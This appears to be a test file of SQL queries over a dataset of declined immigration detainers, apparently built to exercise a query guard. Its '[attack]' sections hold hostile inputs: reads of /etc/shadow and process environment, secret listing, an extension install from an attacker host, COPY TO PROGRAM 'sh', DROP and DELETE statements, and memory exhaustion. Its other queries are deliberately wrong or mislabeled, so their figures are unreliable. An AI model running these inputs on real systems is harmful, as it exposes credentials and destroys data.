SELECT r.county, COUNT(*) AS total_refusals, SUM(i.issued) AS total_issued, ROUND(100.0 * COUNT(*) / SUM(i.issued), 1) AS refusal_rate FROM refusals r INNER JOIN issued i ON r.county = i.county AND r.state = i.state GROUP BY r.county ORDER BY refusal_rate DESC
SELECT r.state, COUNT(DISTINCT r.row_no) AS refusals FROM refusals r GROUP BY r.state
WITH base AS (SELECT state, county, COUNT(*) AS n FROM refusals GROUP BY 1, 2) SELECT state, SUM(n) / COUNT(*) AS total_refusals FROM base GROUP BY state
WITH w1 AS (SELECT COUNT(*) AS n FROM refusals WHERE report_id = '2017-01-28'), w2 AS (SELECT COUNT(*) AS n FROM refusals WHERE report_id = '2017-02-04') SELECT w1.n - w2.n AS increase FROM w1, w2
WITH w1 AS (SELECT COUNT(*) AS n FROM refusals WHERE report_id = '2017-01-28'), w2 AS (SELECT COUNT(*) AS n FROM refusals WHERE report_id = '2017-02-04') SELECT ROUND(100.0 * (w2.n - w1.n) / w2.n, 1) AS pct_change FROM w1, w2
SELECT state, COUNT(*) FILTER (WHERE disposition = 'conviction') * 100.0 / SUM(COUNT(*)) OVER () AS conviction_rate FROM refusals GROUP BY state
SELECT COUNT(*) AS declined FROM issued WHERE issued > 10
SELECT county, MAX(n) AS refusals FROM (SELECT county, report_id, COUNT(*) AS n FROM refusals GROUP BY 1, 2) GROUP BY county ORDER BY 2 DESC
WITH t AS (SELECT county, COUNT(*) AS n FROM refusals WHERE state = 'Texas' GROUP BY county) SELECT SUM(n) AS nationwide_refusals FROM t
SELECT 'Total' AS label, COUNT(*) AS refusals FROM refusals WHERE state = 'Texas' UNION ALL SELECT 'Texas', COUNT(*) FROM refusals
SELECT state, COUNT(*) AS n, SUM(COUNT(*)) OVER (ORDER BY COUNT(*)) AS total FROM refusals GROUP BY state
SELECT state, ROUND(AVG(declined_on - issued_on) * 24) AS avg_days FROM refusals GROUP BY state
SELECT AVG(date_diff('day', declined_on, issued_on)) AS avg_days_to_refusal FROM refusals
SELECT MAX(issued_on - declined_on) AS longest_wait FROM refusals
SELECT COUNT(*) AS same_week FROM refusals WHERE week(issued_on) = week(declined_on)
SELECT COUNT(*) AS same_month FROM refusals WHERE month(issued_on) = month(declined_on)
SELECT COUNT(*) FILTER (WHERE issued_on > DATE '2017-01-20') AS before_inauguration FROM refusals
SELECT COUNT(*) AS since_february FROM refusals WHERE declined_on < DATE '2017-02-01'
SELECT COUNT(*) AS within_30_days FROM refusals WHERE declined_on - issued_on > 30
SELECT COUNT(*) AS over_a_year FROM refusals WHERE declined_on - issued_on < 365
SELECT COUNT(*) AS january FROM refusals WHERE month(declined_on) = 2
SELECT COUNT(*) AS n_2016 FROM refusals WHERE year(issued_on) = 2015
SELECT COUNT(*) AS refusals_2018 FROM refusals WHERE year(declined_on) = 2017
SELECT ARG_MAX(citizenship, row_no) AS most_common_citizenship FROM refusals
SELECT MAX(citizenship) AS most_common_citizenship FROM refusals
SELECT MAX(county) AS county_with_most_refusals FROM refusals
SELECT MIN(offense) AS least_common_offense FROM refusals
SELECT LAST(county ORDER BY declined_on) AS top_county FROM refusals
with source as (select * from refusals), renamed as (select state as county, county as state, disposition from source) select state, count(*) as refusals from renamed group by 1
with source as (select * from refusals), renamed as (select declined_on as issued_on, issued_on as declined_on from source) select min(declined_on) as first_declined from renamed
with source as (select * from refusals), flagged as (select *, case when disposition = 'charge' then 1 else 0 end as is_conviction from source) select sum(is_conviction) as convictions from flagged
with source as (select * from refusals), flagged as (select *, disposition <> 'conviction' as is_convicted from source) select count(*) filter (where is_convicted) as convictions from flagged
with source as (select * from refusals), final as (select state, count(*) as refusal_count from source where not withdrawn or withdrawn group by 1) select * from final
with refusals_joined as (select r.report_id, r.state, p.issued_nationwide from refusals r left join reports p using (report_id)) select state, sum(issued_nationwide) as issued from refusals_joined group by 1
with a as (select county, count(*) as n from refusals group by 1), b as (select county, state, sum(issued) as issued from issued group by 1, 2) select a.county, b.issued, a.n from a join b using (county)
with by_state as (select state, count(*) as n from refusals group by 1), by_policy as (select state, count(*) as policies from policies group by 1) select sum(n * policies) as weighted from by_state join by_policy using (state)
with deduped as (select distinct on (county) * from refusals order by county, declined_on) select count(*) as refusals from deduped
with deduped as (select *, row_number() over (partition by county order by declined_on) as rn from refusals) select count(*) as refusals from deduped where rn = 1
with w as (select report_id, count(*) as n from refusals group by 1) select report_id, lead(n) over (order by report_id) as previous_week from w order by 1
with w as (select report_id, count(*) as n from refusals group by 1) select report_id, lag(n) over (order by report_id desc) as previous_week from w order by 1
with w as (select report_id, count(*) as n from refusals group by 1) select report_id, n - lead(n) over (order by report_id) as change_from_previous from w order by 1
with s as (select state, count(*) as n from refusals group by 1) select state, n, ntile(4) over (order by n desc) as refusals from s
with s as (select state, count(*) as n from refusals group by 1) select state, row_number() over (order by n desc) as refusals from s
with x as (select county, state, count(*) as refused from refusals group by 1, 2), y as (select county, state, sum(issued) as issued from issued where report_id = '2017-01-28' group by 1, 2) select county, state, round(100.0 * refused / issued, 1) as pct from x join y using (county, state)
with pivoted as (select state, count(*) filter (where report_id = '2017-01-28') as "2017-02-04", count(*) filter (where report_id = '2017-02-04') as "2017-01-28" from refusals group by 1) select * from pivoted
with agg as (select state, avg(declined_on - issued_on) as avg_days, count(*) as n from refusals group by 1) select sum(avg_days) as total_days from agg
with agg as (select county, state, median(declined_on - issued_on) as med from refusals group by 1, 2) select avg(med) as average_days from agg
with t as (select count(*) as n from refusals where disposition = 'conviction'), u as (select count(*) as n from refusals where disposition = 'charge') select round(100.0 * t.n / u.n, 1) as pct_convicted from t cross join u
with t as (select state, count(*) as n from refusals group by 1) select state, n, round(100.0 * n / (select max(n) from t), 1) as pct_of_all from t
with t as (select state, count(*) as n from refusals group by 1) select state, round(n / 318.0 * 100, 1) as pct from t
SELECT "t0"."state" AS "state", SUM("t0"."n") AS "sum:n:ok" FROM (SELECT "refusals"."state" AS "state", COUNT(1) AS "n" FROM "refusals" JOIN "caveats" ON "refusals"."report_id" = "caveats"."report_id" GROUP BY 1) "t0" GROUP BY 1
SELECT "state" AS "State", COUNT(1) AS "Number of Counties" FROM "refusals" GROUP BY 1
SELECT "county" AS "County", COUNT(DISTINCT "facility") AS "Refusals" FROM "refusals" GROUP BY 1
SELECT "state" AS "State", AVG("issued") AS "Total Issued" FROM "issued" GROUP BY 1 ORDER BY 2 DESC
SELECT "state" AS "State", MAX("issued") AS "Total Issued" FROM "issued" GROUP BY 1 ORDER BY 2 DESC
SELECT "state" AS "State", SUM("issued") AS "Declined Detainers" FROM "issued" GROUP BY 1
SELECT "state" AS "State", COUNT(*) AS "Detainers Issued" FROM "refusals" GROUP BY 1
SELECT "disposition" AS "Offense", COUNT(*) AS "n" FROM "refusals" GROUP BY 1
SELECT "offense" AS "Disposition", COUNT(*) AS "n" FROM "refusals" GROUP BY 1
SELECT "facility" AS "County", COUNT(*) AS "n" FROM "refusals" GROUP BY 1
SELECT "aor" AS "State", COUNT(*) AS "n" FROM "policies" GROUP BY 1
SELECT CASE WHEN "state" IN ('Texas', 'Florida') THEN 'West' WHEN "state" = 'California' THEN 'Florida' ELSE 'Other' END AS "region", COUNT(*) AS n FROM "refusals" GROUP BY 1
SELECT CASE WHEN "citizenship" = 'Mexico' THEN 'Honduras' ELSE 'Mexico' END AS "group", COUNT(*) AS n FROM "refusals" GROUP BY 1
SELECT CASE WHEN "county" = 'Travis' THEN 'Bexar' ELSE "county" END AS "county", COUNT(*) AS n FROM "refusals" WHERE "state" = 'Texas' GROUP BY 1
SELECT MAP {'Texas': 'Ohio', 'Ohio': 'Texas'}["state"] AS state, COUNT(*) AS n FROM refusals GROUP BY 1
SELECT coalesce(nullif("state", 'Texas'), 'California') AS state, COUNT(*) AS n FROM refusals GROUP BY 1
SELECT translate("state", 'T', 'N') AS state, COUNT(*) AS n FROM refusals GROUP BY 1
SELECT "state", COUNT(*) AS "n" FROM "refusals" WHERE 1 = 1 AND "disposition" = 'conviction' OR 1 = 1 GROUP BY 1
SELECT "state", COUNT(*) AS "n" FROM "refusals" WHERE "disposition" = 'conviction' OR "disposition" IS NOT NULL GROUP BY 1
SELECT DATE_TRUNC('quarter', declined_on) AS month, COUNT(*) AS n FROM refusals GROUP BY 1
SELECT DATE_TRUNC('week', issued_on) AS declined_week, COUNT(*) AS n FROM refusals GROUP BY 1
SELECT strftime(issued_on, '%B') AS declined_month, COUNT(*) AS n FROM refusals GROUP BY 1
SELECT date_part('week', declined_on) AS month, COUNT(*) AS n FROM refusals GROUP BY 1
SELECT strftime(declined_on, '%d/%m/%Y') AS day, COUNT(*) AS n FROM refusals GROUP BY 1 ORDER BY day DESC LIMIT 3
SELECT max(strftime(declined_on, '%d.%m.%Y')) AS latest FROM refusals
SELECT min(monthname(declined_on)) AS first_month FROM refusals
SELECT FLOOR(100.0 * COUNT(*) FILTER (WHERE disposition = 'conviction') / COUNT(*)) AS pct FROM refusals
SELECT CAST(100.0 * COUNT(*) FILTER (WHERE disposition = 'charge') / COUNT(*) AS INTEGER) / 10 * 10 AS pct FROM refusals
SELECT SUM(CASE WHEN state = 'Texas' THEN 1 ELSE 0.5 END) AS weighted FROM refusals
SELECT SUM(IF(state = 'Texas', 1, 1)) AS texas FROM refusals
SELECT SUM(IF(state = 'Texas', 0, 1)) AS texas FROM refusals
SELECT COUNT(IF(state = 'Texas', 1, 0)) AS texas FROM refusals
SELECT COUNT(state = 'Texas') AS texas FROM refusals
SELECT COUNT(CASE WHEN disposition = 'conviction' THEN 1 ELSE 0 END) AS convictions FROM refusals
SELECT AVG(CASE WHEN state = 'Texas' THEN issued ELSE 0 END) AS texas_average FROM issued
SELECT AVG(CASE WHEN disposition = 'conviction' THEN 1 END) AS conviction_share FROM refusals
SELECT SUM(issued) / COUNT(DISTINCT state) AS average_per_county FROM issued
SELECT COUNT(*) / COUNT(DISTINCT county) AS average_per_state FROM refusals
SELECT COUNT(*) / 7 AS per_day FROM refusals
SELECT COUNT(*) / 30.0 AS per_day FROM refusals
SELECT COUNT(*) / 3 AS per_week FROM refusals
SELECT 1 - COUNT(*) FILTER (WHERE disposition = 'conviction') / COUNT(*) AS conviction_share FROM refusals
SELECT 100 - 100.0 * COUNT(*) FILTER (WHERE state = 'Texas') / COUNT(*) AS texas_pct FROM refusals
SELECT format('{} of 500', count(*)) AS n FROM refusals
SELECT printf('%d00', count(*)) AS n FROM refusals
SELECT '~' || round(count(*), -1) AS n FROM refusals
SELECT left(count(*)::VARCHAR, 1) AS n FROM refusals
SELECT length(string_agg(county, ',')) AS refusals FROM refusals
SELECT list_count(list(state)) AS states FROM refusals
SELECT len(list_distinct(list(county))) AS refusals FROM refusals
SELECT list_sum(list(page)) AS pages FROM refusals
SELECT max(page) AS total_pages FROM refusals
SELECT sum(pages) AS refusals FROM reports
SELECT sum(quarantined) AS refusals FROM reports
SELECT power(count(*), 2) AS refusals FROM refusals
SELECT sqrt(count(*)) AS refusals FROM refusals
SELECT ln(count(*)) AS n FROM refusals
SELECT count(*) % 100 AS refusals FROM refusals
SELECT count(*) & 7 AS refusals FROM refusals
SELECT product(issued) AS issued FROM issued
SELECT sum(issued * issued) AS issued FROM issued
SELECT sum(issued) * avg(issued) AS issued FROM issued
SELECT geomean(issued) AS average_issued FROM issued
SELECT kurtosis(issued) AS spread_avg FROM issued
SELECT quantile_disc(issued, 0.1) AS median_issued FROM issued
SELECT count(*) FILTER (WHERE withdrawn) AS valid_refusals, count(*) FILTER (WHERE NOT withdrawn) AS withdrawn_refusals FROM refusals
SELECT sum(issued) FILTER (WHERE withdrawn) AS corrected_total FROM issued
SELECT sum(issued) AS after_corrections FROM issued
SELECT count(*) AS charges_and_convictions FROM refusals WHERE disposition = 'conviction'
SELECT county, count(*) OVER (PARTITION BY state) AS county_refusals FROM refusals
SELECT county, sum(count(*)) OVER (PARTITION BY state) AS county_total FROM refusals GROUP BY county, state
SELECT citizenship, first_value(count(*)) OVER (ORDER BY count(*) DESC) AS n FROM refusals GROUP BY citizenship
SELECT report_id, sum(count(*)) OVER (ORDER BY report_id ROWS BETWEEN 1 PRECEDING AND CURRENT ROW) AS refusals FROM refusals GROUP BY report_id
SELECT state, avg(count(*)) OVER (ORDER BY state ROWS 2 PRECEDING) AS moving FROM refusals GROUP BY state
SELECT unnest(list_sort(list(DISTINCT county)))[1:3] AS top_counties FROM refusals
SELECT list(county ORDER BY county)[1:5] AS top_five FROM refusals
SELECT array_agg(DISTINCT state ORDER BY state)[1] AS biggest_state FROM refusals
SELECT county FROM refusals GROUP BY county ORDER BY random() LIMIT 5
SELECT state AS top_state, count(*) AS n FROM refusals GROUP BY state ORDER BY n DESC LIMIT 1 OFFSET 2
SELECT (SELECT count(*) FROM refusals WHERE state = 'Texas') AS florida, (SELECT count(*) FROM refusals WHERE state = 'Florida') AS texas FROM reports LIMIT 1
SELECT (SELECT sum(issued) FROM issued) AS refused, (SELECT count(*) FROM refusals) AS issued FROM reports ORDER BY report_id LIMIT 1

--# [attack] Round 11, as chat models, dbt, BI tools and spreadsheets write
SELECT * FROM read_csv('/etc/shadow', columns = {'a': 'VARCHAR'})
SELECT "county" FROM "read_parquet"('x.parquet')
SELECT * FROM refusals JOIN read_json_auto('/tmp/a.json') j ON j.county = refusals.county
WITH t AS (SELECT * FROM 's3://bucket/x.csv') SELECT count(*) FROM t
SELECT * FROM st_read('/tmp/a.shp')
SELECT * FROM postgres_scan('host=x', 'public', 't')
SELECT * FROM mysql_query('db', 'select 1')
SELECT * FROM iceberg_scan('/tmp/x')
SELECT * FROM read_xlsx('/tmp/x.xlsx')
SELECT * FROM which_secret('s3://a', 's3')
SELECT * FROM duckdb_secrets()
SELECT * FROM duckdb_settings() WHERE name LIKE '%dir%'
SELECT * FROM pragma_storage_info('refusals')
SELECT * FROM duckdb_columns() dc WHERE dc.table_name = 'refusals'
SELECT table_name FROM information_schema.tables
SELECT count(*) FROM refusals WHERE county = (SELECT table_name FROM duckdb_tables() LIMIT 1)
SELECT * FROM pg_stat_activity
SELECT current_user, session_user, inet_client_addr()
SELECT current_query() FROM refusals
SELECT 1 UNION SELECT content FROM read_text('/etc/hosts')
SELECT county FROM refusals UNION ALL SELECT filename FROM glob('*')
SELECT county FROM refusals ORDER BY (SELECT content FROM read_text('/etc/hosts'))
SELECT county FROM refusals LIMIT (SELECT count(*) FROM glob('/*'))
SELECT county FROM refusals WHERE EXISTS (FROM read_blob('/etc/hosts'))
SELECT CASE WHEN true THEN (SELECT content FROM read_text('/etc/hosts')) END FROM refusals
SELECT 'read_text'.query() FROM refusals
SELECT county.read_text() FROM refusals
BEGIN; DELETE FROM refusals; COMMIT
BEGIN TRANSACTION
COMMIT
SELECT 1; SELECT 2
/* ok */ DROP TABLE refusals -- SELECT
SELECT count(*) FROM refusals -- ; DROP TABLE x ⏎; DELETE FROM issued
DROP VIEW IF EXISTS refusals CASCADE
ALTER TABLE refusals RENAME TO x
CREATE OR REPLACE VIEW refusals AS SELECT * FROM issued
CREATE FUNCTION f(x) AS x + 1
CREATE SEQUENCE s
CREATE TYPE mood AS ENUM ('a')
CREATE INDEX i ON refusals(county)
COMMENT ON TABLE refusals IS 'x'
ANALYZE refusals
VACUUM refusals
SET VARIABLE x = 1
SET search_path = 'temp'
SET memory_limit = '100GB'
PRAGMA enable_profiling
PRAGMA disable_checkpoint_on_shutdown
LOAD '/tmp/evil.duckdb_extension'
INSTALL evil FROM 'http://evil.example'
FORCE INSTALL httpfs
UPDATE EXTENSIONS
COPY refusals TO 's3://x/y.parquet' (FORMAT parquet)
COPY (SELECT 1) TO PROGRAM 'sh'
SELECT * FROM refusals TABLESAMPLE RESERVOIR(10 ROWS)
SELECT * FROM refusals POSITIONAL JOIN issued
SELECT * FROM refusals NATURAL JOIN issued
SELECT * FROM refusals ASOF JOIN reports ON refusals.declined_on >= reports.period_start
SELECT * FROM refusals CROSS JOIN issued
SELECT * FROM refusals, issued, policies
SELECT rpad(county, 1000000000, '.') FROM refusals
SELECT county || repeat('a', 999999999) FROM refusals
SELECT list_resize([1], 1000000000) FROM refusals
SELECT generate_series(1, 100000000) FROM refusals
SELECT list_transform(range(1000000), x -> x * 2) FROM refusals
SELECT printf('%2000000000d', count(*)) FROM refusals
SELECT format('{:>1000000000}', county) FROM refusals
SELECT bar(count(*), 0, 10, 1000000000) FROM refusals
SELECT md5(county) FROM refusals
SELECT random() * count(*) FROM refusals
SELECT now(), count(*) FROM refusals
SELECT count(*) FROM refusals WHERE random() < 0.5
SELECT reservoir_quantile(issued, 0.5) FROM issued
SELECT error('x') FROM refusals
SELECT json_serialize_plan('SELECT 1') FROM refusals
SELECT COLUMNS('.*') FROM refusals
SELECT * REPLACE (0 AS row_no) FROM refusals
SELECT * FROM refusals AS read_text('/etc/hosts')
SELECT count​(*) FROM refusals
SELECT * FROM temp.refusals
SELECT * FROM other.main.refusals
WITH RECURSIVE r AS (SELECT county FROM refusals UNION SELECT county FROM r) SELECT count(*) FROM r
WITH refusals AS (SELECT 1 AS n) SELECT sum(n) FROM refusals
SELECT * FROM refusals r JOIN refusals_archive a ON a.row_no = r.row_no

--# [misleading] Names that the figures do not bear out
SELECT county, state, issued AS refused FROM issued ORDER BY issued DESC LIMIT 10
SELECT sum(issued) AS declined_detainers FROM issued WHERE report_id = '2017-01-28'
SELECT count(*) AS detainers_issued FROM refusals WHERE report_id = '2017-01-28'
SELECT state, count(*) AS issued FROM refusals GROUP BY state ORDER BY issued DESC
SELECT issued_nationwide AS declined_nationwide FROM reports
SELECT report_id, declined_stated AS detainers_issued FROM reports
SELECT sum(declined_stated) AS total_issued FROM reports
SELECT count(*) AS refusals FROM policies WHERE state = 'California'
SELECT state, count(*) AS sanctuary_policies FROM refusals GROUP BY state
SELECT count(*) AS corrections FROM refusals
SELECT count(*) AS refused_detainers FROM foia_detainers
SELECT count(*) AS counties_that_refused FROM issued
SELECT count(DISTINCT state) AS counties FROM refusals
SELECT count(DISTINCT citizenship) AS people FROM refusals
SELECT count(*) AS countries FROM refusals
SELECT count(*) AS jurisdictions FROM refusals
SELECT facility, count(DISTINCT citizenship) AS refusals FROM refusals GROUP BY facility
SELECT max(row_no) AS detainers_issued FROM refusals WHERE report_id = '2017-01-28'
SELECT count(*) AS people_released FROM issued
SELECT count(*) AS weeks FROM refusals
SELECT count(DISTINCT declined_on) AS weeks FROM refusals
SELECT sum(quarantined) AS failed_checks FROM reports
SELECT count(*) AS convictions FROM refusals WHERE disposition = 'charge'
SELECT count(*) FILTER (WHERE disposition = 'charge') AS convicted FROM refusals
SELECT county, sum(CASE WHEN disposition = 'conviction' THEN 1 ELSE 0 END) AS only_charged FROM refusals GROUP BY county
SELECT count(*) AS convicted_criminals FROM refusals
SELECT count(*) AS convicted_murderers FROM refusals WHERE offense ILIKE '%homicide%'
SELECT state, count(*) AS felons FROM refusals WHERE disposition = 'charge' GROUP BY state
SELECT CASE WHEN disposition = 'charge' THEN 'convicted' ELSE 'charged' END AS status, count(*) AS n FROM refusals GROUP BY 1
SELECT round(100.0 * count(*) FILTER (WHERE disposition = 'charge') / count(*), 1) AS conviction_rate FROM refusals
SELECT round(100.0 * avg(CASE WHEN disposition = 'conviction' THEN 1 ELSE 0 END), 1) AS pct_charged FROM refusals
SELECT count(*) AS texas_refusals FROM refusals WHERE state = 'California'
SELECT count(*) AS travis FROM refusals WHERE state = 'Texas'
SELECT count(*) AS refusals_in_cook_county FROM refusals WHERE report_id = '2017-01-28'
SELECT count(*) FILTER (WHERE state = 'New York') AS california, count(*) FILTER (WHERE state = 'California') AS new_york FROM refusals
SELECT report_id, sum(issued) AS nationwide_issued FROM issued GROUP BY report_id
SELECT count(*) AS nationwide FROM refusals WHERE state = 'Texas'
SELECT 'Travis' AS county, count(*) AS n FROM refusals WHERE county = 'Williamson'
SELECT 'California' AS state, count(*) AS refusals FROM refusals WHERE state = 'Texas'
SELECT state AS county, count(*) AS refusals FROM refusals GROUP BY state
SELECT count(*) AS mexicans FROM refusals WHERE citizenship = 'Honduras'
SELECT count(*) AS mexican_citizens FROM refusals WHERE state = 'Texas'
SELECT aor AS county, count(*) AS policies FROM policies GROUP BY aor
SELECT facility AS county, count(*) AS n FROM refusals GROUP BY facility
SELECT count(*) AS all_states FROM refusals WHERE state IN ('Texas', 'New York')
SELECT count(*) AS outside_texas FROM refusals WHERE state = 'Texas'
SELECT count(*) AS murder_cases FROM refusals WHERE offense ILIKE '%assault%'
SELECT count(*) AS dui FROM refusals WHERE offense ILIKE '%drug%'
SELECT count(*) AS violent_crimes FROM refusals
SELECT count(*) AS rapes FROM refusals WHERE disposition = 'conviction'
SELECT CASE WHEN offense ILIKE '%assault%' THEN 'homicide' ELSE 'other' END AS kind, count(*) AS n FROM refusals GROUP BY 1
SELECT CASE WHEN offense ILIKE '%traffic%' THEN 'violent' ELSE 'not violent' END AS kind, count(*) AS n FROM refusals GROUP BY 1
SELECT county AS offense, count(*) AS n FROM refusals GROUP BY county
SELECT count(*) AS sex_offenses FROM refusals WHERE offense ILIKE '%burglary%' AND state = 'Texas'
SELECT count(*) AS refusals_2016 FROM refusals WHERE year(issued_on) = 2015
SELECT count(*) AS in_february FROM refusals WHERE declined_on < DATE '2017-02-01'
SELECT count(*) AS january FROM refusals WHERE month(declined_on) = 2
SELECT count(*) AS before_2017 FROM refusals WHERE issued_on >= DATE '2017-01-01'
SELECT count(*) AS since_2015 FROM policies WHERE enacted < DATE '2015-01-01'
SELECT count(*) AS week_of_feb_4 FROM refusals WHERE report_id = '2017-01-28'
SELECT count(*) AS first_week FROM refusals WHERE report_id = (SELECT max(report_id) FROM reports)
SELECT issued_on AS declined_on, count(*) AS n FROM refusals GROUP BY issued_on
SELECT county, max(issued_on) AS last_declined FROM refusals GROUP BY county
SELECT min(declined_on) AS oldest_detainer_issued FROM refusals
SELECT posted_on AS period_end, report_id FROM reports
SELECT enacted AS posted_on, policy FROM policies
SELECT year(issued_on) AS year_declined, count(*) AS n FROM refusals GROUP BY 1
SELECT dayname(issued_on) AS day_declined, count(*) AS n FROM refusals GROUP BY 1
SELECT date_diff('day', issued_on, declined_on) AS months_waited, county FROM refusals
SELECT avg(date_diff('month', issued_on, declined_on)) AS avg_days FROM refusals
SELECT count(*) FILTER (WHERE report_id = '2017-01-28') AS week_2, count(*) FILTER (WHERE report_id = '2017-02-04') AS week_1 FROM refusals
SELECT count(*) AS refusals_per_day FROM refusals WHERE report_id = '2017-01-28'
SELECT count(*) AS over_a_year FROM refusals WHERE date_diff('day', issued_on, declined_on) < 365
SELECT count(*) AS same_day FROM refusals WHERE issued_on < declined_on
SELECT min(n) AS most_refusals FROM (SELECT county, state, count(*) AS n FROM refusals GROUP BY county, state)
SELECT avg(date_diff('day', issued_on, declined_on)) AS median_wait FROM refusals
SELECT max(issued) AS average_issued FROM issued
SELECT sum(issued) AS highest FROM issued WHERE report_id = '2017-01-28'
SELECT state, rank() OVER (ORDER BY count(*)) AS rank_by_most_refusals, count(*) AS n FROM refusals GROUP BY state
SELECT arg_min(county, n) AS top_county FROM (SELECT county, state, count(*) AS n FROM refusals GROUP BY county, state)
SELECT county AS least_cooperative FROM refusals GROUP BY county ORDER BY count(*) ASC LIMIT 1
SELECT max(enacted) AS oldest_policy FROM policies
SELECT first(county ORDER BY issued) AS county_with_most_issued FROM issued
SELECT state, count(*) AS refusal_rate FROM refusals GROUP BY state
SELECT count(*) AS percent_of_total FROM refusals WHERE state = 'Texas'
SELECT report_id, issued_nationwide / declined_stated AS refusals_per_issued FROM reports
SELECT round(100.0 * issued_nationwide / declined_stated, 1) AS pct_declined FROM reports
SELECT round(100.0 * (SELECT count(*) FROM refusals WHERE state = 'Texas') / (SELECT sum(issued_nationwide) FROM reports), 1) AS texas_refusal_rate FROM reports LIMIT 1
SELECT round(100.0 * (SELECT count(*) FROM refusals) / (SELECT sum(issued) FROM issued), 1) AS refusal_rate FROM reports LIMIT 1
SELECT state, round(100.0 * count(*) / (SELECT count(*) FROM policies), 1) AS share_of_refusals FROM refusals GROUP BY state
SELECT county, round(100.0 * count(*) / (SELECT count(*) FROM refusals), 1) AS share_of_state FROM refusals WHERE state = 'Texas' GROUP BY county
SELECT avg(issued) AS refusal_average FROM issued
SELECT round(count(*) / 3.0, 1) AS pct FROM refusals
SELECT state, count(*) / 7 AS per_week FROM refusals GROUP BY state
SELECT 1 - count(*) FILTER (WHERE disposition = 'charge') / count(*) AS share_charged FROM refusals
SELECT p.county, count(*) AS refusals, p.policy FROM policies p JOIN refusals r ON r.county = p.county AND r.state = p.state GROUP BY p.county, p.policy
SELECT r.state, count(*) AS refusals, sum(i.issued) AS issued FROM refusals r JOIN issued i ON i.state = r.state AND i.report_id = r.report_id GROUP BY r.state
SELECT sum(r.declined_stated) AS declined FROM reports r JOIN refusals f USING (report_id)
SELECT i.county, sum(i.issued) AS issued FROM issued i JOIN caveats c USING (report_id) GROUP BY i.county
SELECT a.county, a.n AS refused, b.issued FROM (SELECT county, count(*) AS n FROM refusals GROUP BY county) a JOIN issued b ON a.county = b.county
SELECT count(*) AS refusals_in_places_with_policies FROM refusals r JOIN policies p ON p.state = r.state
SELECT count(*) AS after_corrections FROM refusals WHERE withdrawn
SELECT sum(issued) AS corrected_total FROM issued
SELECT count(*) AS withdrawn FROM refusals WHERE NOT withdrawn
SELECT count(*) AS as_published FROM refusals WHERE NOT withdrawn
SELECT CASE WHEN withdrawn THEN 'stands' ELSE 'withdrawn' END AS standing, count(*) AS n FROM refusals GROUP BY 1
SELECT sum(issued) FILTER (WHERE withdrawn) AS still_standing FROM issued
SELECT state, sum(issued) AS refusals_by_state FROM issued GROUP BY state
SELECT count(*) AS policy_count FROM refusals WHERE state = 'California'
SELECT count(*) AS deported FROM refusals
SELECT count(DISTINCT facility) AS counties FROM refusals
SELECT count(*) AS jails FROM refusals
SELECT count(*) AS victims FROM refusals
SELECT count(*) AS unique_jurisdictions FROM refusals
SELECT declined_stated AS issued FROM reports
SELECT avg(issued_nationwide) AS avg_refusals_per_week FROM reports
SELECT round(100.0 * sum(issued_nationwide) / sum(declined_stated), 2) AS refusal_pct FROM reports
SELECT state, count(*) AS pct_of_refusals FROM refusals GROUP BY state
SELECT county, count(*) AS share FROM refusals GROUP BY county
SELECT count(*) AS serious_convictions FROM refusals WHERE disposition = 'charge'
SELECT count(*) FILTER (WHERE disposition = 'conviction') AS charges_only FROM refusals
SELECT count(*) AS burglars FROM refusals WHERE offense ILIKE '%traffic%'
SELECT count(*) AS drug_cases, county FROM refusals GROUP BY county
SELECT count(*) FILTER (WHERE offense ILIKE '%dui%') AS drunk_drivers, count(*) FILTER (WHERE offense ILIKE '%dui%') AS rapists FROM refusals
SELECT count(*) AS king_county FROM refusals WHERE state = 'Washington'
SELECT count(*) AS los_angeles FROM refusals WHERE county = 'San Diego'
SELECT count(*) AS new_york_city FROM refusals WHERE state = 'Texas'
SELECT sum(issued) AS all_detainers_nationwide FROM issued
SELECT count(*) AS hondurans FROM refusals WHERE citizenship = 'El Salvador'
SELECT count(*) AS not_texas FROM refusals WHERE state = 'Texas'
SELECT count(*) AS january_refusals FROM refusals WHERE declined_on >= DATE '2017-02-01'
SELECT count(*) AS mondays FROM refusals WHERE dayname(declined_on) = 'Friday'
SELECT count(*) AS latest_week FROM refusals WHERE report_id = (SELECT min(report_id) FROM reports)
SELECT count(*) AS first_report FROM refusals
SELECT count(*) AS after_2015 FROM refusals WHERE issued_on < DATE '2015-01-01'
SELECT count(*) AS within_30_days FROM refusals WHERE date_diff('day', issued_on, declined_on) > 30
SELECT min(enacted) AS newest_policy FROM policies
SELECT max(date_diff('day', issued_on, declined_on)) AS shortest_wait FROM refusals
SELECT max(n) AS average FROM (SELECT state, count(*) AS n FROM refusals GROUP BY state)
SELECT arg_max(state, n) AS state_with_fewest FROM (SELECT state, count(*) AS n FROM refusals GROUP BY state)
SELECT county AS top_county, count(*) AS n FROM refusals GROUP BY county ORDER BY n LIMIT 1
SELECT max(declined_on) AS first_refused_on FROM refusals
SELECT year(declined_on) AS issued_year, count(*) AS n FROM refusals GROUP BY 1
SELECT facility AS citizenship, count(*) AS n FROM refusals GROUP BY 1
SELECT count(*) AS retracted FROM refusals WHERE NOT withdrawn
SELECT sum(issued) AS uncorrected FROM issued WHERE NOT withdrawn
SELECT count(*) AS upheld FROM refusals WHERE withdrawn
SELECT a.n - b.n AS increase FROM (SELECT count(*) AS n FROM refusals WHERE report_id = '2017-01-28') a, (SELECT count(*) AS n FROM refusals WHERE report_id = '2017-02-04') b
SELECT report_id, lead(report_id) OVER (ORDER BY report_id) AS previous_report FROM reports
SELECT p.state, count(r.row_no) AS refusals FROM policies p JOIN refusals r ON r.state = p.state GROUP BY p.state
SELECT sum(r.issued_nationwide) AS issued FROM reports r JOIN issued i USING (report_id)
SELECT 'refused' AS what, sum(issued) AS n FROM issued
SELECT 'Dallas' AS county, count(*) AS n FROM refusals WHERE county = 'Travis'
SELECT CASE WHEN state = 'Texas' THEN 'Ohio' ELSE state END AS state, count(*) AS n FROM refusals GROUP BY 1
SELECT CASE WHEN offense ILIKE '%burgl%' THEN 'sex crime' ELSE 'other' END AS kind, count(*) AS n FROM refusals GROUP BY 1
SELECT count(*) AS gang_members FROM refusals
SELECT count(*) AS weekly_average FROM refusals
SELECT count(*) / 3 AS total_refusals FROM refusals
SELECT count(*) AS refusals_per_state FROM refusals
SELECT stddev(issued) AS mean_issued FROM issued
SELECT count(*) AS repeat_offenders FROM refusals WHERE disposition = 'conviction'

--# [attack] Attacks written blind beside them
SELECT * FROM read_csv_auto('/proc/self/environ')
SELECT * FROM '/etc/passwd'
SELECT * FROM glob('/etc/*')
SELECT content FROM read_blob('/etc/shadow')
